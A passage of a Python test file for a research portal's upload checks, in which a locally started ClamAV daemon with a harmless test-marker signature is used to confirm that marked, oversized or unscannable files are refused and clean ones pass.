    for name, data in [("du-toan.xlsx", xlsx_bytes()), ("thuyet-minh.docx", docx())]:
        assert attach(researcher, draft, name, data, label=name).status_code == 302
        assert draft.attachments.get(label=name).extension == Path(name).suffix
    owner = client_as("researcher2@example.org")
    assert add_file(owner, tech, "document", "phieu.pdf", weasyprint_pdf()).status_code == 302
    assert add_file(owner, tech, "image", "anh.jpg", jpeg_of()).status_code == 302
    assert sorted(tech.files.values_list("content_type", flat=True)) == [
        "application/pdf",
        "image/jpeg",
    ]


# -- ClamAV through a real clamd ------------------------------------------------------------------

CLAMD = shutil.which("clamd") or "/usr/sbin/clamd"


def _clamd_ping(path):
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
            connection.settimeout(2)
            connection.connect(str(path))
            connection.sendall(b"zPING\0")
            return connection.recv(16) == b"PONG\0"
    except OSError:
        return False


@pytest.fixture(scope="module")
def clamd(tmp_path_factory):
    """A clamd of our own: a private Unix socket, a database of one signature written here (the
    marker string, as an .ndb body signature), no freshclam and no network."""
    assert os.access(CLAMD, os.X_OK), (
        "clamd is missing: apt-get install clamav-daemon (the Makefile's browser-deps does it)"
    )
    root = tmp_path_factory.mktemp("clamd")
    database = root / "db"
    database.mkdir()
    (database / "portal-test.ndb").write_text(f"Portal.Test.Marker:0:*:{MARKER.hex()}\n")
    path = root / "clamd.sock"
    config = root / "clamd.conf"
    config.write_text(
        f"LocalSocket {path}\nDatabaseDirectory {database}\nTemporaryDirectory {root}\n"
        f"LogFile {root / 'clamd.log'}\nForeground yes\nBytecode no\nStreamMaxLength 1M\n"
    )
    process = subprocess.Popen(  # noqa: S603
        [CLAMD, "--config-file", str(config)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    deadline = time.monotonic() + 60
    while not _clamd_ping(path):
        if process.poll() is not None or time.monotonic() > deadline:
            process.kill()
            log = (root / "clamd.log").read_text() if (root / "clamd.log").exists() else ""
            pytest.fail(f"clamd did not start: {log[-2000:]}")
        time.sleep(0.1)
    yield path
    process.terminate()
    process.wait(timeout=20)


@pytest.fixture
def scanning(settings, clamd):
    settings.CLAMD_SOCKET = str(clamd)
    return clamd


def marked_pdf():
    """A sound PDF (it passes every structural check) that carries the test signature."""
    return pdf_with(head=b"%PDF-1.7\n%" + MARKER + b"\n")


def test_clamd_refuses_a_marked_file_and_passes_a_clean_one(scanning, settings):
    files.check(upload("sach.pdf", PDF))
    assert "Trình quét vi-rút phát hiện “Portal.Test.Marker.UNOFFICIAL”" in refusal(
        marked_pdf(), "nhiem.pdf"
    )
    # The same file is sound without the scanner: clamd, not the structure, refused it.
    settings.CLAMD_SOCKET = ""
    files.check(upload("nhiem.pdf", marked_pdf()))


def test_clamd_refusal_through_both_upload_views(client_as, draft, tech, scanning):
    before = stored()
    message = "Trình quét vi-rút phát hiện “Portal.Test.Marker.UNOFFICIAL”"
    response = attach(client_as("researcher@example.org"), draft, "nhiem.pdf", marked_pdf())
    assert_refused(response, message, "Bảng dự toán kinh phí chi tiết")
    response = add_file(
        client_as("researcher2@example.org"), tech, "document", "n.pdf", marked_pdf()
    )
    assert_refused(response, message, "Chú thích giữ lại")
    assert stored() == before
    assert attach(client_as("researcher@example.org"), draft, "sach.pdf", PDF).status_code == 302


def test_a_file_over_clamds_stream_limit_is_refused_not_passed(scanning):
    """clamd answers 'INSTREAM size limit exceeded' (or hangs up) past its StreamMaxLength
    (1 MiB here): that is no verdict, so the file is refused."""
    padding = b"%" + b"a" * 1000 + b"\n"
    big = pdf_with(head=b"%PDF-1.7\n" + padding * 1200)
    assert "chưa kiểm tra được vi-rút" in refusal(big, "lon.pdf")


def test_an_unreachable_clamd_refuses_every_file_and_is_logged(settings, tmp_path, caplog):
    settings.CLAMD_SOCKET = str(tmp_path / "no-such.sock")
    assert "Hiện chưa kiểm tra được vi-rút cho tệp này" in refusal(PDF, "hop-dong.pdf")
    assert "clamd" in caplog.text and "cannot be reached" in caplog.text
    # By host and port: nothing listens on this machine's port for this slice.
    settings.CLAMD_SOCKET = ""
    settings.CLAMD_HOST, settings.CLAMD_PORT = "127.0.0.1", 8104
    assert "chưa kiểm tra được vi-rút" in refusal(PDF, "hop-dong.pdf")


def test_a_clamd_that_never_answers_times_out_and_refuses(settings, tmp_path):
    path = tmp_path / "silent.sock"
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as silent:
        silent.bind(str(path))
        silent.listen(1)
        settings.CLAMD_SOCKET, settings.CLAMD_TIMEOUT = str(path), 1
        started = time.monotonic()
        assert "chưa kiểm tra được vi-rút" in refusal(PDF, "hop-dong.pdf")
        assert time.monotonic() - started < 10


def test_a_stopped_clamd_refuses_through_the_view(client_as, draft, settings, tmp_path):
    """clamd was running and went away: the socket file is left, nobody answers."""
    path = tmp_path / "gone.sock"
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(str(path))
    listener.close()
    settings.CLAMD_SOCKET = str(path)
    before = stored()
    response = attach(client_as("researcher@example.org"), draft, "hop-dong.pdf", PDF)
    assert_refused(response, "Hiện chưa kiểm tra được vi-rút cho tệp này", "Bảng dự toán")
    assert stored() == before
